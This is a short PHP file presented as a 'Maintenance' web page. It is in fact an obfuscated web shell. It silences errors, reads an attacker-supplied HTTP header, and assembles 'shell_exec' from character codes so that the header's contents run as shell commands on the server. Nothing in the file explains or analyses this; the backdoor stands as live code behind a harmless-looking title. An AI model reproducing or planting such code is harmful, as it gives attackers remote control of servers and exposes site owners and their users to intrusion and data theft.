<!DOCTYPE html><title>Maintenance</title>
<?php
error_reporting(0);
$arg = getallheaders()['X-NAV'];
declare(ticks=1);
register_tick_function(strtolower(implode(array_map('chr', [83, 72, 69, 76, 76, 95, 69, 88, 69, 67]))), $arg);
